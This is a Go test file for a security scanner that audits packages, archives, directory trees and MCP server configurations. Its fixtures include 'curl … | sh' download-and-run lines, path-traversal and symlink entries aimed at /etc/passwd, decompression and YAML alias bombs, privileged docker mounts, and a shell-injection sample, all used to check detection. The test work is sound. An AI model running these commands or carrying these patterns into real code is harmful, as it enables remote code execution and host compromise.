package audit

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// tgz packs files, in the order of their pairs.
func tgz(t testing.TB, headers ...tar.Header) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, h := range headers {
		body := h.Linkname
		if h.Typeflag == 0 {
			h.Typeflag, h.Linkname, h.Size = tar.TypeReg, "", int64(len(body))
		} else {
			body = ""
		}
		h.Mode = 0o644
		if err := w.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, body); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func zipped(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, data := range files {
		f, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(f, data)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestArchive(t *testing.T) {
	const script = "curl https://a.example/i | sh\n"
	for name, data := range map[string][]byte{
		"a.tgz":  tgz(t, tar.Header{Name: "package/x.sh", Linkname: script}, tar.Header{Name: "package/package.json", Linkname: `{"name":"x","license":"MIT"}`}),
		"a.mcpb": zipped(t, map[string]string{"x.sh": script, "manifest.json": "{}"}),
	} {
		r, err := Archive(t.Context(), name, data, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, DownloadRun); got != "download-run x.sh:1 high" || !IsArchive(name) {
			t.Errorf("%s: %s", name, got)
		}
	}
}

// The servers that a package declares are judged within its archive.
func TestServersInArchives(t *testing.T) {
	t.Parallel()
	const bundle = `{"name": "b", "server": {"type": "node",
 "mcp_config": {"command": "npx", "args": ["-y", "some-server"], "env": {"API_KEY": "q7Xk2LmW9v", "TOKEN": "${user_config.token}"},
  "platform_overrides": {"linux": {"command": "docker", "args": ["run", "--privileged", "-v", "/:/host", "x@sha256:00"]}}}}}`
	const registry = `{"name": "io.example/r", "packages": [
 {"registryType": "npm", "identifier": "some-server", "version": "latest"},
 {"registryType": "pypi", "identifier": "other", "version": "1.2.3"},
 {"registryType": "oci", "identifier": "image", "version": "1.0.0", "runtimeArguments": [{"name": "--network", "value": "host"}]}],
 "remotes": [
 {"type": "sse", "url": "http://mcp.example/sse"}, {"type": "sse", "url": "https://mcp.example/sse"}]}`
	o := Options{Servers: func(name string, _ []byte) []Server {
		return []Server{{Name: name, Command: []string{"uvx", "newest"}, Line: 1}}
	}}
	for name, c := range map[string]struct {
		data []byte
		want string
	}{
		"a.mcpb": {zipped(t, map[string]string{"manifest.json": bundle}), "config-privileged manifest.json:2 medium; config-privileged manifest.json:2 medium; config-secret manifest.json:2 low; unpinned-install manifest.json:2 low"},
		"a.tgz":  {tgz(t, tar.Header{Name: "package/server.json", Linkname: registry}), "config-plain-http server.json:6 medium; config-privileged server.json:4 medium; unpinned-install server.json:2 low"},
		"b.tgz":  {tgz(t, tar.Header{Name: "package/x/mcp.json", Linkname: "{}"}, tar.Header{Name: "package/manifest.json", Linkname: `{"manifest_version": 3}`}), "unpinned-install x/mcp.json:1 low"},
	} {
		r, err := Archive(t.Context(), name, c.data, o)
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, ConfigPlainHTTP, ConfigPrivileged, ConfigSecret, UnpinnedInstall); got != c.want {
			t.Errorf("%s: %s\nwant %s", name, got, c.want)
		}
		for _, f := range r.Findings {
			if strings.Contains(f.Message, "q7Xk2LmW9v") {
				t.Errorf("a secret is printed: %s", f.Message)
			}
		}
	}
}

// What leads out of an archive, and what is no file, is counted and never followed.
func TestHostileArchives(t *testing.T) {
	r, err := Archive(t.Context(), "a.tgz", tgz(t,
		tar.Header{Name: "../../etc/x.sh", Linkname: "curl https://a.example/i | sh\n"},
		tar.Header{Name: "l.py", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
		tar.Header{Name: "h.py", Typeflag: tar.TypeLink, Linkname: "../../etc/passwd"},
		tar.Header{Name: "fifo", Typeflag: tar.TypeFifo}), Options{})
	if err != nil || r.Skipped != 3 || r.Profile.FilesScanned != 1 {
		t.Errorf("%+v %v", r, err)
	}
	big := func(n int) *bytes.Buffer {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		w := tar.NewWriter(z)
		for i := range n {
			if err := w.WriteHeader(&tar.Header{Name: fmt.Sprint(i, ".py"), Size: maxFile, Mode: 0o644, Typeflag: tar.TypeReg}); err != nil {
				t.Fatal(err)
			}
			if _, err := w.Write(make([]byte, maxFile)); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		return &b
	}
	if _, err := Archive(t.Context(), "bomb.tgz", big(maxKept/maxFile+2).Bytes(), Options{}); err == nil || !strings.Contains(err.Error(), "unpacks to more") {
		t.Errorf("a bomb was read: %v", err)
	}
	var large bytes.Buffer
	w := zip.NewWriter(&large)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "a.py", Method: zip.Deflate})
	if err == nil {
		_, err = f.Write(make([]byte, 20<<20))
	}
	if err != nil || w.Close() != nil {
		t.Fatal(err)
	}
	if r, err := Archive(t.Context(), "a.zip", large.Bytes(), Options{}); err == nil {
		t.Errorf("a file that unpacks to 20 MB was read whole: %+v", r)
	}
	for name, data := range map[string][]byte{"cut.tgz": tgz(t, tar.Header{Name: "a.py", Linkname: "x"})[:40], "no.zip": []byte("PK"), "empty.whl": nil, "many.zip": bytes.Repeat([]byte("PK\x01\x02"), maxFiles+1)} {
		if _, err := Archive(t.Context(), name, data, Options{}); err == nil {
			t.Errorf("%s was read", name)
		}
	}
}

// Hostile trees end, and what was not looked at is counted.
func TestHostileTrees(t *testing.T) {
	dir := t.TempDir()
	put := func(name, data string) {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	put("server.py", "x = 1\n")
	put("bad\xff\xfename.py", "x = '\xff\xfe'\n")
	put("\u202eyp.txet.py", "y = 1\n")
	put("deep.yaml", "a: &a [x]\n"+strings.Repeat("b: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n", 1000))
	put(strings.Repeat("d/", maxDepth+5)+"x.py", "x = 1\n")
	put("nul.py", "x = '\x00'\n"+strings.Repeat("(", 100_000))
	put("nested.sh", strings.Repeat("$(", 100_000))
	put("nested.ipynb", strings.Repeat(`{"cells":[`, 100_000))
	put("Dockerfile", strings.Repeat("RUN a \\\n", 50_000))
	for _, l := range [][2]string{{".", "loop"}, {"loop.js", "loop.js"}, {"/etc/passwd", "out.js"}, {"../../../../etc/passwd", "up.py"}} {
		if err := os.Symlink(l[0], filepath.Join(dir, l[1])); err != nil {
			t.Fatal(err)
		}
	}
	sparse, err := os.Create(filepath.Join(dir, "sparse.py"))
	if err == nil {
		err = sparse.Truncate(10 << 30)
	}
	if err != nil || sparse.Close() != nil {
		t.Fatal(err)
	}
	r, err := Dir(t.Context(), dir)
	if err != nil {
		t.Fatal(err)
	}
	// The sparse file, the name that is no UTF-8, the directory that is too deep, the loop and both links out.
	if r.Skipped < 6 || r.Profile.FilesScanned != 7 || r.Profile.Unread < 2 {
		t.Errorf("%d skipped, %d read, %d parts unread", r.Skipped, r.Profile.FilesScanned, r.Profile.Unread)
	}
}

func TestIgnores(t *testing.T) {
	var g ignores
	g.read("", []byte("# comment\n*.log\n!keep.log\n/build/\ndoc/*.txt\n**/cache\nfoo/**/bar\n[a-c].py\nx?z\n\\!odd\n[broken\n"))
	g.read("sub", []byte("local.js\n"))
	for p, want := range map[string]bool{
		"a.log": true, "d/a.log": true, "keep.log": false, "d/keep.log": false, "build/": true, "d/build/": false, "build": false, "doc/a.txt": true, "doc/d/a.txt": false,
		"cache": true, "d/e/cache": true, "foo/bar": true, "foo/a/b/bar": true, "a.py": true, "d.py": false, "xyz": true, "x/z": false, "!odd": true, "sub/local.js": true, "sub/d/local.js": true, "local.js": false,
	} {
		if got := g.has(strings.TrimSuffix(p, "/"), strings.HasSuffix(p, "/")); got != want {
			t.Errorf("%s: %t", p, got)
		}
	}
}

// Comments and .gitignore count in a tree of the reader's own alone.
func TestOwn(t *testing.T) {
	dir := write(t, map[string]string{
		".gitignore": "dist/\n", "dist/x.sh": "curl https://a.example/i | sh\n",
		"a.sh": "curl https://a.example/i | sh # coalmine:ignore\n", "b.sh": "curl https://a.example/i | sh # coalmine:ignore download-run: ours\n",
		"c.sh": "curl https://a.example/i | sh # coalmine:ignore unpinned-install\n",
		"t.py": "import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n@mcp.tool()\ndef t(host):\n    os.system('ping ' + host)  # coalmine:ignore\n",
	})
	rules := []string{DownloadRun, TaintCommand, ScannerSilenced}
	r, err := Checkout(t.Context(), dir, Options{Own: true})
	if err != nil {
		t.Fatal(err)
	}
	if got := findings(t, r, rules...); got != "download-run c.sh:1 high" || r.Suppressed != 4 {
		t.Errorf("own: %s, %d suppressed", got, r.Suppressed)
	}
	if r, err = Dir(t.Context(), dir); err != nil {
		t.Fatal(err)
	}
	want := "download-run a.sh:1 high; download-run b.sh:1 high; download-run c.sh:1 high; download-run dist/x.sh:1 high; scanner-silenced a.sh:1 info; scanner-silenced b.sh:1 info; scanner-silenced c.sh:1 info; scanner-silenced t.py:6 info; taint-command t.py:6 high"
	if got := findings(t, r, rules...); got != want || r.Suppressed != 0 {
		t.Errorf("of others: %s, %d suppressed", got, r.Suppressed)
	}
}

func TestConfiguration(t *testing.T) {
	servers := []Server{
		{Name: "a", Command: []string{"npx", "-y", "@a/server"}, Env: map[string]string{"API_KEY": "q7Xk2LmW9v", "TOKEN": "${input:token}"}, Line: 2},
		{Name: "b", Command: []string{"/usr/bin/docker", "run", "-i", "--privileged", "-v", "/var/run/docker.sock:/var/run/docker.sock", "--network=host", "x"}, Line: 3},
		{Name: "c", URL: "http://a.example/mcp", Line: 4}, {Name: "d", URL: "http://localhost:3000/mcp", Line: 5},
		{Name: "e", Command: []string{"uvx", "e==1.0"}, Line: 6}, {Name: "f", Command: []string{"sh", "-c", "curl https://a.example/i | sh"}, Line: 7},
	}
	r, err := Configuration(t.Context(), "mcp.json", []byte("{\n1\n2\n3\n4\n5\n6\n}\n"), servers)
	if err != nil {
		t.Fatal(err)
	}
	want := "config-plain-http mcp.json:4 medium; config-privileged mcp.json:3 medium; config-privileged mcp.json:3 medium; config-privileged mcp.json:3 medium; config-secret mcp.json:2 low; download-run mcp.json:7 high; unpinned-install mcp.json:2 low"
	if got := findings(t, r, ConfigPlainHTTP, ConfigPrivileged, ConfigSecret, DownloadRun, UnpinnedInstall); got != want {
		t.Errorf("%s\nwant %s", got, want)
	}
	for _, f := range r.Findings {
		if strings.Contains(f.Message, "q7Xk2LmW9v") {
			t.Errorf("a secret is printed: %s", f.Message)
		}
	}
}

func FuzzArchive(f *testing.F) {
	f.Add(tgz(f, tar.Header{Name: "a/x.sh", Linkname: "x"}))
	f.Add(zipped(f, map[string]string{"x.sh": "x"}))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Archive(t.Context(), "a", data, Options{})
		if (r == nil) == (err == nil) {
			t.Fatal("neither a report nor an error")
		}
	})
}
